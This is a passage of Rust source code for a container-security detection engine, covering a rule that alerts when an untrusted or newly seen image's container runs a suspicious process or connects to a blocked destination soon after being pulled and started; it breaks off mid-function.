//! AN0691, containers: an untrusted image is pulled, a container is created and
//! started from it, and shortly after start it runs a suspicious utility or connects
//! to a blocked (or, from a scoped namespace, any public) destination.
//!
//! State is keyed per container. Sources name containers differently (Docker and
//! containerd by id, kubelet by pod and container name, Falco by a 12-character id
//! prefix, Tetragon by all of these), so each container record is reachable through
//! every alias seen for it, and records found to be the same container are merged.

use crate::evidence::{evidence, one_line};
use crate::matchers::{Matchers, Trust};
use crate::provenance::{Novelty, Provenance};
use crate::stats::EngineStats;
use crate::Map;
use pullwatch_model::alert::{Alert, AlertEntity, AlertImage, Evidence, Severity};
use pullwatch_model::time::Dur;
use pullwatch_model::{
    exe_basename, is_public_ip, redact_secrets, ContainerLifecycle, ContainerRef, Event, ImagePull,
    ImageRef, LifecyclePhase, Lineage, Name, PodBinding, PodCreate, Ts,
};
use std::sync::Arc;

pub const RULE_CHAIN: &str = "an0691.chain";
pub const RULE_NAMESPACE: &str = "an0691.namespace_scope";
const ANALYTIC: &str = "AN0691";
const TECHNIQUE: &str = "T1204.003";
/// Pulls kept per repository; older ones can no longer anchor a new container anyway
/// once this many newer pulls of the same repository exist.
const PULLS_PER_REPOSITORY: usize = 64;
/// Why start-up activity of a newly seen digest of an allowlisted image made no chain.
pub const SKIPPED_STARTUP: &str =
    "activity skipped: the entrypoint of a newly seen digest of an allowlisted image";

/// What a container did that may complete a chain.
pub enum Activity<'a> {
    Process {
        exe: &'a str,
        cmdline: &'a str,
        /// Its place in the container's process tree, where the record says.
        lineage: Lineage,
    },
    Connection {
        dst: std::net::IpAddr,
        dst_port: Option<u16>,
        proto: Option<&'a str>,
        exe: Option<&'a str>,
        src: Option<std::net::IpAddr>,
    },
}

#[derive(Clone, Debug)]
struct Stage {
    time: Ts,
    /// Shared, not copied: a pull's evidence is held by the pull list and by every
    /// container started from it, and a tracked container is mostly its evidence.
    evidence: Arc<Evidence>,
}

#[derive(Clone, Debug)]
struct Pull {
    host: Option<String>,
    image: ImageRef,
    stage: Stage,
}

#[derive(Clone, Debug, Default)]
struct Ctr {
    host: Option<Name>,
    id: Option<Name>,
    name: Option<Name>,
    pod: Option<Name>,
    namespace: Option<Name>,
    image: Option<ImageRef>,
    pull: Option<Pull>,
    /// Admitted by the API server (pod create).
    admitted: Option<Stage>,
    /// Created by the runtime or kubelet.
    created: Option<Stage>,
    started: Option<Stage>,
    /// Start time carried by an activity record itself.
    started_hint: Option<Ts>,
    sandbox: bool,
    alerted: bool,
    /// The pod spec's `command` and `args`, when it set `command`: the container's
    /// pid 1 runs exactly this.
    spec_argv: Option<Arc<[String]>>,
    /// Suspicious-looking processes not counted because they were the container's own
    /// start-up (see [`SKIPPED_STARTUP`]).
    startup_skipped: u32,
    /// When the runtime reported the container's exit.
    exited: Option<Ts>,
    last_seen: Ts,
}

type PodKey = (Name, Name);
type PodCtrKey = (Name, Name, Name);

#[derive(Default)]
struct Pod {
    node: Option<Name>,
    members: Vec<u64>,
    last_seen: Ts,
}

pub struct ContainerChains {
    window: Dur,
    lateness: Dur,
    max_containers: usize,
    max_pulls: usize,
    next_slot: u64,
    ctrs: Map<u64, Ctr>,
    by_id: Map<String, u64>,
    by_pod: Map<PodCtrKey, u64>,
    pods: Map<PodKey, Pod>,
    pulls: Map<String, Vec<Pull>>,
    pull_count: usize,
    /// Pods already reported by the namespace-scope rule, with when.
    scoped_reported: Map<PodKey, Ts>,
    /// The baseline of digests and tags seen before (inactive without one).
    pub(crate) provenance: Provenance,
}

/// Containers are keyed by the first 12 characters of their id: every source's form
/// (12, 31 or 64 characters) shares that prefix.
fn id_key(id: &str) -> &str {
    id.get(..12).unwrap_or(id)
}

fn ids_compatible(a: &str, b: &str) -> bool {
    a.starts_with(b) || b.starts_with(a)
}

fn hosts_compatible(a: Option<&str>, b: Option<&str>) -> bool {
    match (a, b) {
        (Some(x), Some(y)) => x.eq_ignore_ascii_case(y),
        _ => true,
    }
}

fn pod_ctr_key(c: &ContainerRef) -> Option<PodCtrKey> {
    Some((c.namespace.clone()?, c.pod.clone()?, c.name.clone()?))
}

impl ContainerChains {
    pub fn new(
        window: Dur,
        lateness: Dur,
        max_containers: usize,
        max_pulls: usize,
    ) -> ContainerChains {
        ContainerChains {
            window,
            lateness,
            max_containers: max_containers.max(1),
            max_pulls: max_pulls.max(1),
            next_slot: 0,
            ctrs: Map::default(),
            by_id: Map::default(),
            by_pod: Map::default(),
            pods: Map::default(),
            pulls: Map::default(),
            pull_count: 0,
            scoped_reported: Map::default(),
            provenance: Provenance::inactive(),
        }
    }

    pub fn tracked(&self) -> usize {
        self.ctrs.len()
    }

    pub fn on_pull(&mut self, ev: &Event, p: &ImagePull, m: &Matchers, stats: &mut EngineStats) {
        let host = p.host.clone().or_else(|| {
            p.for_container
                .as_ref()
                .and_then(|c| c.host.as_deref().map(str::to_string))
        });
        let pull = Pull {
            host,
            image: p.image.clone(),
            stage: Stage {
                time: ev.time,
                evidence: Arc::new(evidence("pull", ev, p.detail.clone())),
            },
        };
        if let Some(c) = &p.for_container {
            let mut cref = c.clone();
            cref.image.get_or_insert_with(|| p.image.clone());
            if let Some(slot) = self.resolve(&cref, ev.time, m, stats) {
                if let Some(ctr) = self.ctrs.get_mut(&slot) {
                    let fits = ctr.image.as_ref().is_none_or(|i| i.same_image(&p.image));
                    if fits && ctr.started.is_none() {
                        ctr.pull = Some(pull.clone());
                    }
                }
            }
        }
        if self.pull_count >= self.max_pulls {
            self.evict_pulls(stats);
        }
        let list = self.pulls.entry(p.image.repository()).or_default();
        list.push(pull);
        self.pull_count += 1;
        if list.len() > PULLS_PER_REPOSITORY {
            list.remove(0);
            self.pull_count -= 1;
            stats.evicted("pulls: per-repository cap", 1);
        }
    }

    pub fn on_pod_create(
        &mut self,
        ev: &Event,
        p: &PodCreate,
        m: &Matchers,
        stats: &mut EngineStats,
        alerts: &mut Vec<Alert>,
    ) {
        let key = (
            pullwatch_model::name(&p.namespace),
            pullwatch_model::name(&p.pod),
        );
        let pod = self.pods.entry(key.clone()).or_default();
        pod.last_seen = ev.time;
        if let Some(node) = &p.node {
            pod.node = Some(pullwatch_model::name(node));
        }
        let node = pod.node.clone();
        for spec in &p.containers {
            let cref = ContainerRef {
                host: node.clone(),
                id: None,
                name: Some(pullwatch_model::name(&spec.name)),
                pod: Some(key.1.clone()),
                namespace: Some(key.0.clone()),
                image: Some(spec.image.clone()),
                started_at: None,
            };
            if let Some(slot) = self.resolve(&cref, ev.time, m, stats) {
                if let Some(ctr) = self.ctrs.get_mut(&slot) {
                    // Without `command` the image's own entrypoint runs, which the spec
                    // does not name: `args` alone do not say what pid 1 is.
                    if !spec.command.is_empty() && ctr.spec_argv.is_none() {
                        let argv: Vec<String> =
                            spec.command.iter().chain(&spec.args).cloned().collect();
                        ctr.spec_argv = Some(argv.into());
                    }
                    if ctr.admitted.is_none() {
                        let by = p
                            .actor
                            .as_deref()
                            .map(|a| format!(" by {a}"))
                            .unwrap_or_default();
                        ctr.admitted = Some(Stage {
                            time: ev.time,
                            evidence: Arc::new(evidence(
                                "create",
                                ev,
                                format!(
                                    "pod {}/{} admitted{by}: container {} image {}",
                                    p.namespace, p.pod, spec.name, spec.image_raw
                                ),
                            )),
                        });
                    }
                }
            }
        }
        self.namespace_scope(ev, p, node, m, alerts, stats);
    }

    /// `an0691.namespace_scope`: a pod in a watched namespace runs an image that is
    /// untrusted, or that can change under it (no digest), or that is re-pulled on
    /// every start from a mutable tag.
    fn namespace_scope(
        &mut self,
        ev: &Event,
        p: &PodCreate,
        node: Option<Name>,
        m: &Matchers,
        alerts: &mut Vec<Alert>,
        stats: &mut EngineStats,
    ) {
        let Some(scope) = m.namespace_in_scope(&p.namespace) else {
            return;
        };
        let key = (
            pullwatch_model::name(&p.namespace),
            pullwatch_model::name(&p.pod),
        );
        if self.scoped_reported.contains_key(&key) {
            return;
        }
        let mut reasons = Vec::new();
        let mut first_image: Option<&ImageRef> = None;
        for spec in &p.containers {
            let before = reasons.len();
            match m.trust(&spec.image) {
                Trust::Allowed(_) => {}
                Trust::Untrusted => reasons.push(format!(
                    "container {} image {} is not in image_registry_allow_list",
                    spec.name, spec.image
                )),
                Trust::Malformed(why) => reasons.push(format!(
                    "container {} image reference {:?} is malformed ({why}) and cannot be allowlisted",
                    spec.name, spec.image_raw
                )),
            }
            if spec.image.is_mutable() {
                let always = spec.pull_policy.as_deref() == Some("Always");
                reasons.push(if always {
                    format!(
                        "container {} pulls {} with imagePullPolicy Always on a mutable tag (no digest): every start may run different content",
                        spec.name, spec.image
                    )
                } else {
                    format!("container {} image {} is a mutable tag (no digest pin)", spec.name, spec.image)
                });
            }
            if reasons.len() > before && first_image.is_none() {
                first_image = Some(&spec.image);
            }
        }
        if reasons.is_empty() {
            return;
        }
        reasons.insert(
            0,
            format!("namespace {} is in namespace_scope ({scope})", p.namespace),
        );
        self.scoped_reported.insert(key, ev.time);
        let image = first_image.map(alert_image).unwrap_or_default();
        let by = p
            .actor
            .as_deref()
            .map(|a| format!(" by {a}"))
            .unwrap_or_default();
        *stats.alerts.entry(RULE_NAMESPACE.to_string()).or_default() += 1;
        alerts.push(Alert {
            rule: RULE_NAMESPACE,
            analytic: ANALYTIC,
            technique: TECHNIQUE,
            severity: Severity::Medium,
            time: ev.time,
            entity: AlertEntity {
                host: node.as_deref().map(str::to_string),
                namespace: Some(p.namespace.clone()),
                pod: Some(p.pod.clone()),
                ..AlertEntity::default()
            },
            image,
            reasons,
            evidence: vec![evidence(
                "create",
                ev,
                format!(
                    "pod {}/{} created{by} with {} container(s)",
                    p.namespace,
                    p.pod,
                    p.containers.len()
                ),
            )],
        });
    }

    pub fn on_binding(&mut self, ev: &Event, b: &PodBinding) {
        let pod = self
            .pods
            .entry((
                pullwatch_model::name(&b.namespace),
                pullwatch_model::name(&b.pod),
            ))
            .or_default();
        let node = pullwatch_model::name(&b.node);
        pod.node = Some(node.clone());
        pod.last_seen = ev.time;
        for slot in pod.members.clone() {
            if let Some(c) = self.ctrs.get_mut(&slot) {
                c.host.get_or_insert_with(|| node.clone());
            }
        }
    }

    pub fn on_lifecycle(
        &mut self,
        ev: &Event,
        l: &ContainerLifecycle,
        m: &Matchers,
        stats: &mut EngineStats,
    ) {
        let sandbox = l.sandbox
            || l.container
                .image
                .as_ref()
                .is_some_and(|i| i.path.ends_with("/pause") || i.path == "pause");
        if sandbox {
            stats.activity("sandbox container lifecycle");
            return;
        }
        let Some(slot) = self.resolve(&l.container, ev.time, m, stats) else {
            stats.activity("container lifecycle without identity");
            return;
        };
        // The pull is joined when the container starts, so that a flood of later pulls
        // pushing it out of the (capped) pull list cannot strip the chain of it.
        let pull = match self.ctrs.get(&slot) {
            Some(c) if l.phase == LifecyclePhase::Start && c.pull.is_none() => c
                .image
                .as_ref()
                .and_then(|i| self.find_pull(i, c.host.as_deref(), ev.time)),
            _ => None,
        };
        let Some(ctr) = self.ctrs.get_mut(&slot) else {
            return;
        };
        if pull.is_some() {
            ctr.pull = pull;
        }
        let stage = |name| Stage {
            time: ev.time,
            evidence: Arc::new(evidence(name, ev, l.detail.clone())),
        };
        match l.phase {
            LifecyclePhase::Create => {
                ctr.created.get_or_insert_with(|| stage("create"));
            }
            LifecyclePhase::Start => {
                ctr.started.get_or_insert_with(|| stage("start"));
                // `docker restart` starts the same container id again.
                ctr.exited = None;
            }
            LifecyclePhase::Exit => {
                ctr.exited.get_or_insert(ev.time);
            }
        }
    }

    /// Activity in a known container: completes the chain if every stage holds.
    pub fn on_activity(
        &mut self,
        ev: &Event,
        cref: &ContainerRef,
        act: &Activity,
        m: &Matchers,
        stats: &mut EngineStats,
        alerts: &mut Vec<Alert>,
    ) {
        let Some(slot) = self.resolve(cref, ev.time, m, stats) else {
            stats.activity("activity without container identity");
            return;
        };
        let Some(mut ctr) = self.ctrs.remove(&slot) else {
            return;
        };
        let alert = self.evaluate(ev, &mut ctr, act, m, stats);
        self.ctrs.insert(slot, ctr);
        if let Some(a) = alert {
            *stats.alerts.entry(RULE_CHAIN.to_string()).or_default() += 1;
            alerts.push(a);
        }
    }

    fn evaluate(
        &self,
        ev: &Event,
        ctr: &mut Ctr,
        act: &Activity,
        m: &Matchers,
        stats: &mut EngineStats,
    ) -> Option<Alert> {
        if ctr.alerted {
            stats.activity("container already alerted");
            return None;
        }
        if ctr.sandbox {
            return None;
        }
        let t = ev.time;
        let (activity_reason, activity_summary) = match act {
            Activity::Process { exe, cmdline, .. } => {
                let Some((entry, applet)) = m.suspicious_process(exe, cmdline) else {
                    stats.activity("process not in suspicious_binaries");
                    return None;
                };
                let ran = match applet {
                    Some(a) => format!("ran {exe} as {}", quote(a)),
                    None => format!("ran {exe}"),
                };
                (
                    format!("{ran} ({} in suspicious_binaries)", quote(entry)),
                    format!(
                        "exec {}",
                        one_line(&redact_secrets(if cmdline.is_empty() {
                            exe
                        } else {
                            cmdline
                        }))
                    ),
                )
            }
            Activity::Connection {
                dst,
                dst_port,
                proto,
                exe,
                src,
            } => {
                let dest = endpoint(*dst, *dst_port);
                let reason = if let Some(net) = m.blocked(*dst) {
                    format!("connected to {dest}, inside outbound_cidr_block_list entry {net}")
                } else if let Some(scope) = ctr
                    .namespace
                    .as_deref()
                    .and_then(|ns| m.namespace_in_scope(ns))
                {
                    if !is_public_ip(*dst) {
                        stats.activity("connection to a private address");
                        return None;
                    }
                    format!(
                        "connected to public address {dest} from namespace {}, which is in namespace_scope ({scope})",
                        ctr.namespace.as_deref().unwrap_or("")
                    )
                } else {
                    stats.activity("connection not blocked and not from a scoped namespace");
                    return None;
                };
                let mut s = String::from("connect ");
                if let Some(ip) = src {
                    s.push_str(&format!("{ip} -> "));
                }
                s.push_str(&dest);
                if let Some(p) = proto {
                    s.push_str(&format!("/{p}"));
                }
                if let Some(e) = exe {
                    s.push_str(&format!(" by {e}"));
                }
                (reason, s)
            }
        };
        let Some(image) = ctr.image.clone() else {
            stats.activity("suspicious activity, container image unknown");
            return None;
        };
        let novelty = self.novelty(ctr, &image, t);
        let trust = m.trust(&image);
        let allowed_but_new = matches!(trust, Trust::Allowed(_));
        let trust_reason = match trust {
            Trust::Allowed(entry) => match novelty.first_seen_reason(&image, entry) {
                Some(reason) => reason,
                None => {
                    stats.activity("suspicious activity in a trusted image");
                    return None;
                }
            },
            Trust::Untrusted => format!(
                "image {image} is not in image_registry_allow_list (registry {}, repository {})",
                image.registry, image.path
            ),
            Trust::Malformed(why) => {
                format!("image reference {image} is malformed ({why}) and cannot be allowlisted")
            }
        };
        let lifecycle_times = [
            ctr.admitted.as_ref().map(|s| s.time),
            ctr.created.as_ref().map(|s| s.time),
            ctr.started.as_ref().map(|s| s.time),
            ctr.started_hint,
        ];
        let Some(first_lifecycle) = lifecycle_times.iter().flatten().min().copied() else {
            stats.activity("suspicious activity, no evidence of container start");
            return None;
        };
        let pull_bound = ctr
            .started
            .as_ref()
            .map(|s| s.time)
            .or(ctr.created.as_ref().map(|s| s.time))
            .or(ctr.started_hint)
            .unwrap_or(t);
        if ctr.pull.is_none() {
            ctr.pull = self.find_pull(&image, ctr.host.as_deref(), pull_bound);
        }
        let anchor = ctr.pull.as_ref().map_or(first_lifecycle, |p| p.stage.time);
        if t < anchor.saturating_sub(self.lateness) {
            stats.activity("activity before the chain's start");
            return None;
        }
        let elapsed = t.since(anchor);
        if elapsed > self.window {
            stats.activity("activity after time_window");
            return None;
        }
        // An allowlisted image whose only fault is a digest the baseline lacks is judged
        // by what it does beyond starting: its entrypoint, and what the entrypoint runs
        // directly, are the image's own start-up. A moved tag, an untrusted image, an
        // exec and anything deeper still make a chain.
        if allowed_but_new && novelty.tag_moved.is_none() {
            if let Activity::Process {
                exe,
                cmdline,
                lineage,
            } = act
            {
                if is_startup(lineage, ctr.spec_argv.as_deref(), exe, cmdline) {
                    ctr.startup_skipped = ctr.startup_skipped.saturating_add(1);
                    stats.activity(SKIPPED_STARTUP);
                    return None;
                }
            }
        }
        let mut image = image;
        if let Some(p) = &ctr.pull {
            image.absorb(&p.image);
        }
        // A new digest from an allowlisted registry is for review: medium wherever it runs.
        let trusted_but_new = m.is_trusted(&image);
        let scope = ctr
            .namespace
            .as_deref()
            .and_then(|ns| m.namespace_in_scope(ns))
            .filter(|_| !trusted_but_new);
        let severity = if scope.is_some() {
            Severity::Critical
        } else if trusted_but_new {
            Severity::Medium
        } else {
            Severity::High
        };
        let mut reasons = vec![trust_reason];
        match &ctr.pull {
            Some(p) => {
                let where_ = p.host.as_deref().map(|h| format!(" on {h}")).unwrap_or_default();
                let start = ctr.started.as_ref().map(|s| s.time).or(ctr.started_hint);
                let started = start
                    .map(|s| format!(", container started {} later", s.since(p.stage.time)))
                    .unwrap_or_default();
                reasons.push(format!("pulled{where_} at {}{started}", p.stage.time));
            }
            None => reasons.push(format!(
                "no pull seen (image already present); window measured from the container's first lifecycle record at {first_lifecycle}"
            )),
        }
        let since = if ctr.pull.is_some() {
            "the pull"
        } else {
            "container start"
        };
        reasons.push(format!(
            "{activity_reason}, {elapsed} after {since} (time_window {})",
            self.window
        ));
        if let (Some(s), Some(ns)) = (scope, ctr.namespace.as_deref()) {
            reasons.push(format!(
                "severity critical: namespace {ns} is in namespace_scope ({s})"
            ));
        }
        if ctr.startup_skipped > 0 {
            reasons.push(format!(
                "{} earlier process(es) of the container's own start-up (its entrypoint, or run directly by it) were not counted: expected for a newly seen digest of an allowlisted image",
                ctr.startup_skipped
            ));
        }
        let severity = novelty.raise(severity, &mut reasons);
        let mut evidence_list: Vec<Evidence> = Vec::new();
        if let Some(p) = &ctr.pull {
            evidence_list.push(Evidence::clone(&p.stage.evidence));
        }
        for s in [&ctr.admitted, &ctr.created, &ctr.started]
            .into_iter()
            .flatten()
        {
            evidence_list.push(Evidence::clone(&s.evidence));
        }
        evidence_list.push(evidence("activity", ev, activity_summary));
        evidence_list.sort_by_key(|a| a.time);
        ctr.alerted = true;
        Some(Alert {
            rule: RULE_CHAIN,
            analytic: ANALYTIC,
            technique: TECHNIQUE,
            severity,
            time: t,
            entity: AlertEntity {
                host: ctr.host.as_deref().map(str::to_string),
                container_id: ctr.id.as_deref().map(str::to_string),
                namespace: ctr.namespace.as_deref().map(str::to_string),
                pod: ctr.pod.as_deref().map(str::to_string),
                container: ctr.name.as_deref().map(str::to_string),
                ..AlertEntity::default()
            },
            image: alert_image(&image),
            reasons,
            evidence: evidence_list,
        })
    }

    /// What the baseline says of the image a chain runs: the container's reference,
    /// completed by its pull's digest when it names none itself.
    fn novelty(&self, ctr: &Ctr, image: &ImageRef, t: Ts) -> Novelty {
        match &ctr.pull {
            Some(p) if image.digest.is_none() && image.same_image(&p.image) => {
                let mut full = image.clone();
                full.absorb(&p.image);
                self.provenance.novelty(&full, t)
            }
            _ => self.provenance.novelty(image, t),
        }
    }

    /// The latest pull of the same image on a compatible host that precedes `bound`
    /// by no more than the window.
    fn find_pull(&self, image: &ImageRef, host: Option<&str>, bound: Ts) -> Option<Pull> {
        let list = self.pulls.get(&image.repository())?;
        list.iter()
            .rev()
            .find(|p| {
                p.stage.time <= bound
                    && bound.since(p.stage.time) <= self.window
                    && p.image.same_image(image)
                    && hosts_compatible(p.host.as_deref(), host)
            })
            .cloned()
    }

    /// Finds or creates the record for a container reference, merging records that
    /// turn out to be the same container, and folds in what the reference knows.
    fn resolve(
        &mut self,
        c: &ContainerRef,
        now: Ts,
        m: &Matchers,
        stats: &mut EngineStats,
    ) -> Option<u64> {
        if c.id.is_none() && c.name.is_none() {
            return self.only_workload_of_pod(c);
        }
        let idk = c.id.as_deref().map(|id| id_key(id).to_string());
        let podk = pod_ctr_key(c);
        let by_id = idk.as_ref().and_then(|k| self.by_id.get(k)).copied();
        let mut by_pod = podk.as_ref().and_then(|k| self.by_pod.get(k)).copied();
        // A new container id under a known pod/container name is a restart: a new
        // container that inherits the pod's history but not the old one's id.
        if let (None, Some(p), Some(new_id)) = (by_id, by_pod, c.id.as_deref()) {
            if let Some(old) = self.ctrs.get(&p) {
                if old
                    .id
                    .as_deref()
                    .is_some_and(|o| !ids_compatible(o, new_id))
                {
                    let mut fresh = old.clone();
                    fresh.id = None;
                    fresh.created = None;
                    fresh.started = None;
                    fresh.started_hint = None;
                    fresh.alerted = false;
                    fresh.startup_skipped = 0;
                    fresh.exited = None;
                    let slot = self.insert(fresh, now, m, stats);
                    by_pod = Some(slot);
                }
            }
        }
        let slot = match (by_id, by_pod) {
            (Some(a), Some(b)) if a != b => {
                self.merge(a, b);
                a
            }
            (Some(a), _) => a,
            (None, Some(b)) => b,
            (None, None) => {
                if !c.has_identity() {
                    return None;
                }
                self.insert(Ctr::default(), now, m, stats)
            }
        };
        let ctr = self.ctrs.get_mut(&slot)?;
        if ctr.host.is_none() {
            ctr.host.clone_from(&c.host);
        }
        match (&ctr.id, &c.id) {
            (None, Some(n)) => ctr.id = Some(n.clone()),
            (Some(o), Some(n)) if n.len() > o.len() && n.starts_with(&**o) => {
                ctr.id = Some(n.clone())
            }
            _ => {}
        }
        for (dst, src) in [
            (&mut ctr.name, &c.name),
            (&mut ctr.pod, &c.pod),
            (&mut ctr.namespace, &c.namespace),
        ] {
            if dst.is_none() {
                dst.clone_from(src);
            }
        }
        match (&mut ctr.image, &c.image) {
            (None, Some(i)) => ctr.image = Some(i.clone()),
            (Some(mine), Some(i)) if mine.same_image(i) => mine.absorb(i),
            _ => {}
        }
        if let Some(h) = c.started_at {
            ctr.started_hint = Some(ctr.started_hint.map_or(h, |o| o.min(h)));
        }
        ctr.last_seen = ctr.last_seen.max(now);
        let (ns, pod) = (ctr.namespace.clone(), ctr.pod.clone());
        if let Some(k) = idk {
            self.by_id.insert(k, slot);
        }
        if let Some(k) = podk {
            self.by_pod.insert(k, slot);
        }
        if let (Some(ns), Some(pod)) = (ns, pod) {
            let p = self.pods.entry((ns, pod)).or_default();
            p.last_seen = p.last_seen.max(now);
            if !p.members.contains(&slot) {
                p.members.push(slot);
            }
            if let Some(node) = p.node.clone() {
                if let Some(ctr) = self.ctrs.get_mut(&slot) {
                    ctr.host.get_or_insert(node);
                }
            }
        }
        Some(slot)
    }

    /// A record that names a pod but none of its containers (a Hubble flow, an address
    /// from `pods/status`) belongs to the pod's workload container when the pod has
    /// exactly one running (exited init containers do not count): the pod's network
    /// namespace is all its containers' own, so with several the record cannot say
    /// which one acted, and it is not attributed.
    fn only_workload_of_pod(&self, c: &ContainerRef) -> Option<u64> {
        let key = (c.namespace.clone()?, c.pod.clone()?);
        let pod = self.pods.get(&key)?;
        let mut workloads = pod.members.iter().filter(|s| {
            self.ctrs
                .get(s)
                .is_some_and(|ctr| !ctr.sandbox && ctr.exited.is_none())
        });
        match (workloads.next(), workloads.next()) {
            (Some(&one), None) => Some(one),
            _ => None,
        }
    }

    fn insert(&mut self, ctr: Ctr, now: Ts, m: &Matchers, stats: &mut EngineStats) -> u64 {
        if self.ctrs.len() >= self.max_containers {
            self.evict_for_room(now, m, stats);
        }
        let slot = self.next_slot;
        self.next_slot += 1;
        self.ctrs.insert(slot, ctr);
        let n = self.ctrs.len() as u64;
        stats.containers_peak = stats.containers_peak.max(n);
        slot
    }

    /// Folds record `b` into `a` and points `b`'s aliases at `a`.
    fn merge(&mut self, a: u64, b: u64) {
        let Some(other) = self.ctrs.remove(&b) else {
            return;
        };
        let Some(ctr) = self.ctrs.get_mut(&a) else {
            self.ctrs.insert(b, other);
            return;
        };
        fn earliest(x: &mut Option<Stage>, y: Option<Stage>) {
            match (x.as_ref(), y) {
                (None, y) => *x = y,
                (Some(xs), Some(ys)) if ys.time < xs.time => *x = Some(ys),
                _ => {}
            }
        }
        if ctr.host.is_none() {
            ctr.host = other.host;
        }
        match (&ctr.id, other.id) {
            (None, o) => ctr.id = o,
            (Some(mine), Some(o)) if o.len() > mine.len() && o.starts_with(&**mine) => {
                ctr.id = Some(o)
            }
            _ => {}
        }
        if ctr.name.is_none() {
            ctr.name = other.name;
        }
        if ctr.pod.is_none() {
            ctr.pod = other.pod;
        }
        if ctr.namespace.is_none() {
            ctr.namespace = other.namespace;
        }
        match (&mut ctr.image, other.image) {
            (None, o) => ctr.image = o,
            (Some(mine), Some(o)) if mine.same_image(&o) => mine.absorb(&o),
            _ => {}
        }
        if ctr.pull.is_none() {
            ctr.pull = other.pull;
        }
        earliest(&mut ctr.admitted, other.admitted);
        earliest(&mut ctr.created, other.created);
        earliest(&mut ctr.started, other.started);
        ctr.started_hint = match (ctr.started_hint, other.started_hint) {
            (Some(x), Some(y)) => Some(x.min(y)),
            (x, y) => x.or(y),
        };
        ctr.sandbox |= other.sandbox;
        ctr.alerted |= other.alerted;
        if ctr.spec_argv.is_none() {
            ctr.spec_argv = other.spec_argv;
        }
        ctr.startup_skipped = ctr.startup_skipped.saturating_add(other.startup_skipped);
        ctr.exited = match (ctr.exited, other.exited) {
            (Some(x), Some(y)) => Some(x.max(y)),
            (x, y) => x.or(y),
        };
        ctr.last_seen = ctr.last_seen.max(other.last_seen);
        for v in self.by_id.values_mut().chain(self.by_pod.values_mut()) {
            if *v == b {
                *v = a;
            }
        }
        for p in self.pods.values_mut() {
            p.members.retain(|s| *s != b);
            if !p.members.contains(&a) && ctr.pod.is_some() {
                // Re-added below by resolve when the pod is known.
            }
        }
    }

    fn remove(&mut self, slot: u64) {
        if let Some(ctr) = self.ctrs.remove(&slot) {
            if let Some(id) = &ctr.id {
                let k = id_key(id);
                if self.by_id.get(k) == Some(&slot) {
                    self.by_id.remove(k);
                }
            }
            if let (Some(ns), Some(pod), Some(name)) = (&ctr.namespace, &ctr.pod, &ctr.name) {
                let k = (ns.clone(), pod.clone(), name.clone());
                if self.by_pod.get(&k) == Some(&slot) {
                    self.by_pod.remove(&k);
                }
                if let Some(p) = self.pods.get_mut(&(ns.clone(), pod.clone())) {
                    p.members.retain(|s| *s != slot);
                }
            }
        }
    }

    /// How likely a container is to still complete a chain, least likely first: an
    /// attacker who floods pullwatch with containers must not push out the one that
    /// is about to alert. Containers that cannot alert go first (trusted, alerted,
    /// sandbox), then those whose window is over, then those that exited, then those
    /// with no evidence of starting, and only then live untrusted ones.
    fn eviction_rank(&self, c: &Ctr, now: Ts, m: &Matchers) -> EvictRank {
        if c.alerted || c.sandbox || c.image.as_ref().is_some_and(|i| m.is_trusted(i)) {
            return EvictRank::CannotAlert;
        }
        let settled = now.saturating_sub(self.lateness);
        let first_lifecycle = [
            c.admitted.as_ref().map(|s| s.time),
            c.created.as_ref().map(|s| s.time),
            c.started.as_ref().map(|s| s.time),
            c.started_hint,
        ]
        .into_iter()
        .flatten()
        .min();
        let anchor = c.pull.as_ref().map(|p| p.stage.time).or(first_lifecycle);
        if anchor.is_some_and(|a| a.saturating_add(self.window) < settled) {
            return EvictRank::WindowOver;
        }
        // Records reach this point in event-time order, so a container whose exit has
        // been seen has run every process it will run.
        if c.exited.is_some_and(|x| x <= now) {
            return EvictRank::Exited;
        }
        if first_lifecycle.is_none() {
            return EvictRank::NoStart;
        }
        EvictRank::Live
    }

    /// Frees a tenth of the capacity, least likely to alert first and, within a
    /// rank, least recently seen first.
    fn evict_for_room(&mut self, now: Ts, m: &Matchers, stats: &mut EngineStats) {
        let want = (self.max_containers / 10).max(1);
        let mut order: Vec<(EvictRank, Ts, u64)> = self
            .ctrs
            .iter()
            .map(|(slot, c)| (self.eviction_rank(c, now, m), c.last_seen, *slot))
            .collect();
        if want < order.len() {
            order.select_nth_unstable(want);
            order.truncate(want);
        }
        let mut counts = [0u64; 5];
        for (rank, _, slot) in order {
            self.remove(slot);
            counts[rank as usize] += 1;
        }
        for (rank, n) in EvictRank::ALL.iter().zip(counts) {
            stats.evicted(rank.reason(), n);
        }
    }

    fn evict_pulls(&mut self, stats: &mut EngineStats) {
        let want = (self.max_pulls / 10).max(1);
        let mut all: Vec<(Ts, String)> = self
            .pulls
            .iter()
            .flat_map(|(k, v)| v.iter().map(move |p| (p.stage.time, k.clone())))
            .collect();
        all.sort_unstable();
        let cutoff = all
            .get(want.min(all.len().saturating_sub(1)))
            .map(|(t, _)| *t);
        let Some(cutoff) = cutoff else { return };
        let mut removed = 0;
        for list in self.pulls.values_mut() {
            let before = list.len();
            list.retain(|p| p.stage.time > cutoff);
            removed += before - list.len();
        }
        self.pulls.retain(|_, v| !v.is_empty());
        self.pull_count -= removed;
        stats.evicted("pulls: capacity", removed as u64);
    }

    /// Drops state that can no longer take part in a chain: nothing older than the
    /// window (plus lateness) before the watermark can still be joined.
    pub fn expire(&mut self, watermark: Ts, stats: &mut EngineStats) {
        let horizon = watermark
            .saturating_sub(self.window)
            .saturating_sub(self.lateness);
        let old: Vec<u64> = self
            .ctrs
            .iter()
            .filter(|(_, c)| c.last_seen < horizon)
            .map(|(s, _)| *s)
            .collect();
        stats.evicted("containers: expired", old.len() as u64);
        for s in old {
            self.remove(s);
        }
        let mut removed = 0;
        for list in self.pulls.values_mut() {
            let before = list.len();
            list.retain(|p| p.stage.time >= horizon);
            removed += before - list.len();
        }
        self.pulls.retain(|_, v| !v.is_empty());
        self.pull_count -= removed;
        stats.evicted("pulls: expired", removed as u64);
        self.pods
            .retain(|_, p| p.last_seen >= horizon || !p.members.is_empty());
        self.scoped_reported.retain(|_, t| *t >= horizon);
    }
}

/// Why a container was chosen for eviction; the order is the eviction order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum EvictRank {
    CannotAlert = 0,
    WindowOver = 1,
    Exited = 2,
    NoStart = 3,
    Live = 4,
}

impl EvictRank {
    const ALL: [EvictRank; 5] = [
        EvictRank::CannotAlert,
        EvictRank::WindowOver,
        EvictRank::Exited,
        EvictRank::NoStart,
        EvictRank::Live,
    ];

    fn reason(self) -> &'static str {
        match self {
